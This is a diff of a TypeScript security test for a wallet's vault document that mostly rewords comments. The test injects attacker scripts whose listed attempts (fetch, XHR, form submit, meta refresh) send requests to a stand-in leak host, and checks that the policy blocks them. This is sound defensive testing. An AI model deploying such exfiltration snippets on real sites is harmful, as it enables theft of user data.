@@ -5,13 +5,12 @@ import type { Tampering } from '../stage/serveFront.ts'
 import { openWallet, until, vaultFile } from '../stage/visitor.ts'
 
 /**
- * Code of an attacker inside the vault's document, which wants to send what it has found. The document is the real one,
- * with every header as it is, but that the policy also lists the hash of the attacker's script: what holds is the policy
- * and the frame that the wallet has made, and nothing else.
+ * An attacker's code inside the vault's document, which tries to send its findings. The document is the real one with all its headers,
+ * except that the policy also lists the hash of the attacker's script: only the policy and the frame that the wallet has made protect it.
  *
  * WebRTC is not among the ways: no policy of Chromium or Firefox governs it (`docs/threat-model.md`).
  *
- * Attempts are texts: each may use `leak(name)`, an address of a stranger that nobody may ever be asked for.
+ * Attempts are texts: each may use `leak(name)`, a URL of another site that must never be requested.
  */
 export type Attempts = Readonly<Record<string, string>>
 
@@ -98,7 +97,7 @@ const ways = {
     'form of a new window':
       "{ const form = Object.assign(document.createElement('form'), { action: leak('form-blank'), target: '_blank' }); document.body.append(form); form.submit() }",
   },
-  // Last: what works would end the others.
+  // Last: if it works, it ends the others.
   'its own address': {
     refresh:
       "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${leak('refresh')}` }))",
@@ -106,7 +105,7 @@ const ways = {
   },
 } as const satisfies Record<string, Attempts>
 
-/** One classic script that makes every attempt, whatever becomes of the others. */
+/** Returns one classic script that makes every attempt, even if others fail. */
 export const scriptOf = (attempts: Attempts, stranger: string): string => `(() => {
   const leak = (name) => ${JSON.stringify(`${stranger}/leak/`)} + name
   const swallow = (error) => void error
@@ -123,7 +122,7 @@ export const scriptOf = (attempts: Attempts, stranger: string): string => `(() =
 
 const hashOf = (script: string): string => `'sha256-${createHash('sha256').update(script).digest('base64')}'`
 
-/** The vault's document with one more script, which its policy lists. */
+/** Returns the vault's document with one more script, which its policy lists. */
 export const withScript =
   (script: string): Tampering =>
   (path, served) => {
@@ -139,10 +138,10 @@ export const withScript =
     }
   }
 
-/** Long enough for a request to be there; the audit comes a second later, and looks again. */
+/** Long enough for a request to arrive; the audit checks again a second later. */
 const settle = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 300))
 
-/** Opens a wallet whose vault is served as `tampering` has it, and waits until the vault's document says that it was attacked. */
+/** Opens a wallet whose vault is served with `tampering`, and waits until the vault's document reports that it was attacked. */
 const openAttacked = async ({ stage, openTab }: Ground, tampering: Tampering): Promise<void> => {
   let isServed = false
   stage.vaultFront.tamper((path, served) => {
@@ -151,7 +150,7 @@ const openAttacked = async ({ stage, openTab }: Ground, tampering: Tampering): P
   })
   const tab = await openTab()
   await openWallet(stage, tab)
-  // A document that went to its own address is gone, and has nothing more to tell.
+  // A document that navigated to its own URL is gone, and reports nothing more.
   await until(async () => {
     const vault = tab.realms().find((realm) => realm.url().startsWith(stage.urls.vault))
     if (vault === undefined) return isServed
@@ -168,7 +167,7 @@ const attackVault =
     return 'nothing'
   }
 
-/** What a worker may try. */
+/** A worker's possible attempts. */
 const workerWays = {
   fetch: "fetch(leak('fetch'), { mode: 'no-cors' })",
   XMLHttpRequest: "{ const request = new XMLHttpRequest(); request.open('GET', leak('xhr')); request.send() }",
@@ -186,8 +185,7 @@ const workerWays = {
 } as const satisfies Attempts
 
 /**
- * The worker that computes Argon2id, served with the attacker's code in it and its headers as they are, and started by a
- * script of the attacker's in the vault's document.
+ * The Argon2id worker, served with the attacker's code and its own headers, and started by an attacker's script in the vault's document.
  */
 const attackKdf: Scenario['attack'] = async (ground: Ground) => {
   const { stage } = ground
